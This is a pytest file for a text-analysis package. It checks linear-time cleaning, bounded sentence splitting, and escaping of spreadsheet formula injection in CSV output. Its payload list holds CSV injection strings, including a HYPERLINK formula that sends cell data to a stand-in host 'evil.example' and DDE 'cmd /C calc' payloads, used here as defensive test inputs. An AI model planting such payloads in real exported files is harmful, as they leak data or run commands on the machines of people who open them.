"""Hostile inputs for cleaning, sentence splitting and table writing (the safety issue)."""

from __future__ import annotations

import csv
import textwrap
from pathlib import Path

import pandas as pd
import pytest

try:
    from nltk import redos
except ImportError:  # NLTK before 3.10 runs no regular expression under a time limit
    redos = None

from analysis import clean_text, split_sentences, write_table
from analysis.corpus import sentences
from analysis.io import is_formula_text

# --------------------------------------------------------------------------------------------
# Item 7: the cleaning audit stays linear in the input on hard-wrapped text.
# --------------------------------------------------------------------------------------------

_TEXT = (
    "harbour officials in freedonia agreed on tuesday to pause new port fees for six months "
    "while talks with shipping lines continue and analysts said the move would ease costs"
)
_WORDS = _TEXT.split(" ")


def _paragraph(n_words: int, shift: int) -> str:
    words = [_WORDS[(i * 7 + shift) % len(_WORDS)] for i in range(n_words)]
    return " ".join(words).capitalize() + "."


def _wrapped_text(n_words: int, n_paragraphs: int) -> str:
    return "\n\n".join(textwrap.fill(_paragraph(n_words, k), 70) for k in range(n_paragraphs))


def _audit_chars(raw: str) -> int:
    audit = clean_text(raw, "doc").audit
    return sum(len(e.original) + len(e.result) for e in audit)


def test_hard_wrap_audit_is_linear_in_the_input() -> None:
    small = _wrapped_text(120, 5)
    large = _wrapped_text(2400, 5)  # paragraphs 20 times longer
    # every line is recorded (original) once, and each paragraph once as the joined result
    assert _audit_chars(small) <= 3 * len(small)
    assert _audit_chars(large) <= 3 * len(large)


def test_hard_wrap_audit_records_every_joined_line_and_the_paragraph_once() -> None:
    raw = _wrapped_text(120, 3)
    cleaned = clean_text(raw, "doc")
    paragraphs = cleaned.text.splitlines()
    assert paragraphs == [_paragraph(120, k) for k in range(3)]
    raw_lines = raw.split("\n")
    joins = [e for e in cleaned.audit if e.rule == "hard_wrap_join"]
    changed = [e for e in joins if e.action == "changed"]
    removed = [e for e in joins if e.action == "removed"]
    assert [e.result for e in changed] == paragraphs
    heads = {e.line_no for e in changed}
    continuation = [n for n, line in enumerate(raw_lines, 1) if line and n not in heads]
    assert [e.line_no for e in removed] == continuation
    for entry in joins:
        assert entry.original == raw_lines[entry.line_no - 1]
    assert all(e.result == "" for e in removed)


# --------------------------------------------------------------------------------------------
# Item 8: sentence splitting has no wall-clock limit and stays linear on very long lines.
# --------------------------------------------------------------------------------------------

_SENTENCE = (
    "Officials in Freedonia said on Tuesday that port fees would fall by 3.5% from Oct. 1, "
    "the U.S. trade office confirmed."
)


needs_redos = pytest.mark.skipif(redos is None, reason="NLTK before 3.10 has no nltk.redos")


@needs_redos
def test_punkt_never_runs_under_nltks_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every match method of nltk.redos' timed pattern fails: our Punkt must not need one."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise TimeoutError("regular-expression match exceeded its time limit")

    for name in ("search", "match", "fullmatch", "findall", "finditer", "split", "sub", "subn"):
        monkeypatch.setattr(redos.TimedPattern, name, refuse)
    text = f'{_SENTENCE} "It is over." (Mr. Roe agreed.) Is it... really? Yes!\n- A bullet.'
    assert split_sentences(text) == [
        _SENTENCE,
        '"It is over."',
        "(Mr. Roe agreed.)",
        "Is it... really?",
        "Yes!",
        "A bullet.",
    ]


@needs_redos
def test_word_tokens_never_run_under_nltks_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    """The same for the Treebank word tokenizer behind keyness: stdlib ``re``, same tokens."""
    from nltk.tokenize import NLTKWordTokenizer

    text = "He said “can't” -- China's [deal] cost $3.88 (roughly), didn't he? 'Twas so."
    expected = [t for t in NLTKWordTokenizer().tokenize(text) if any(c.isalnum() for c in t)]

    def refuse(*args: object, **kwargs: object) -> None:
        raise TimeoutError("regular-expression match exceeded its time limit")

    for name in ("search", "match", "fullmatch", "findall", "finditer", "split", "sub", "subn"):
        monkeypatch.setattr(redos.TimedPattern, name, refuse)
    assert sentences.tokenize_words(text) == expected


def test_multi_megabyte_single_line_is_split_in_bounded_pieces(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    line = " ".join([_SENTENCE] * 30_000)  # about 3.5 MB on one line
    seen: list[int] = []
    tokenizer = sentences._punkt()
    real = tokenizer.tokenize

    def spy(text: str, *args: object, **kwargs: object) -> list[str]:
        seen.append(len(text))
        return real(text, *args, **kwargs)

    monkeypatch.setattr(tokenizer, "tokenize", spy)
    out = split_sentences(clean_text(line, "doc").text)
    assert out == [_SENTENCE] * 30_000
    assert max(seen) <= sentences.MAX_UNIT_CHARS


def test_long_line_without_spaces_or_sentence_ends_is_cut_at_the_bound() -> None:
    out = split_sentences("x" * 2_000_000 + " tail end.")
    assert sum(len(s) for s in out) == 2_000_000 + len("tail end.")
    assert max(len(s) for s in out) <= sentences.MAX_UNIT_CHARS


def test_long_line_without_sentence_ends_is_cut_at_spaces() -> None:
    words = ["word"] * 600_000  # 3 MB, no full stop
    out = split_sentences(" ".join(words))
    assert all(s.split(" ") == ["word"] * len(s.split(" ")) for s in out)
    assert sum(len(s.split(" ")) for s in out) == len(words)
    assert max(len(s) for s in out) <= sentences.MAX_UNIT_CHARS


# --------------------------------------------------------------------------------------------
# Item 9: spreadsheet formula injection in every CSV written by write_table.
# --------------------------------------------------------------------------------------------

_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '- HYPERLINK("http://evil.example")',
    "=A1",
]


def test_write_table_neutralises_formula_text_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "outlet": _PAYLOADS,
            "title": ["Plain title"] * len(_PAYLOADS),
            "sentence": pd.Series(_PAYLOADS, dtype="string"),
            "group": pd.Categorical(_PAYLOADS),
            "compound": [-0.5] * len(_PAYLOADS),
            "n": [-3] * len(_PAYLOADS),
        }
    )
    path = write_table(frame, tmp_path / "t.csv")
    back = pd.read_csv(path, keep_default_na=False)
    for col in ("outlet", "sentence", "group"):
        assert list(back[col]) == ["'" + p for p in _PAYLOADS], col
    assert list(back["title"]) == ["Plain title"] * len(_PAYLOADS)
    assert list(back["compound"]) == [-0.5] * len(_PAYLOADS)
    assert list(back["n"]) == [-3] * len(_PAYLOADS)
    assert frame["outlet"].tolist() == _PAYLOADS  # the caller's frame is not modified


def test_write_table_leaves_numbers_and_plain_text_alone(tmp_path: Path) -> None:
    cells = ["-0.5", "+3%", "1,000", "\t\t", "plain", "a - b"]
    path = write_table(pd.DataFrame({"text": cells}), tmp_path / "t.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        assert [row[0] for row in csv.reader(handle)] == ["text", *cells]


def test_bullets_and_exact_word_terms_are_neutralised_too(tmp_path: Path) -> None:
    """The strict OWASP rule: a spreadsheet shows these as #NAME? errors otherwise."""
    cells = ["- A bullet (with a note).", "=fault"]
    path = write_table(pd.DataFrame({"text": cells}), tmp_path / "t.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        assert [row[0] for row in csv.reader(handle)] == ["text", *["'" + c for c in cells]]


def test_a_carriage_return_in_a_cell_cannot_split_its_row(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": ["one\rtwo", "three\r\nfour"], "n": [1, 2]})
    back = pd.read_csv(write_table(frame, tmp_path / "t.csv"))
    assert back["text"].tolist() == ["one\ntwo", "three\nfour"]
    assert back["n"].tolist() == [1, 2]


def test_a_line_break_in_a_cell_is_a_quoted_line_feed_not_backslash_n(tmp_path: Path) -> None:
    """As the README says: an article's paragraphs in documents.csv are kept as line breaks in
    a quoted cell (a tester read "written as \\n" as the two characters)."""
    frame = pd.DataFrame({"text": ["First paragraph.\nSecond one."], "n": [1]})
    written = write_table(frame, tmp_path / "t.csv").read_bytes()
    assert written == b'text,n\n"First paragraph.\nSecond one.",1\n'
    assert pd.read_csv(tmp_path / "t.csv")["text"].tolist() == ["First paragraph.\nSecond one."]


def test_formula_after_a_carriage_return_or_spaces_is_recognised() -> None:
    for cell in ("\r=1+1", " =1+1", "\t@SUM(1)", "\n+1+1"):
        assert is_formula_text(cell), repr(cell)
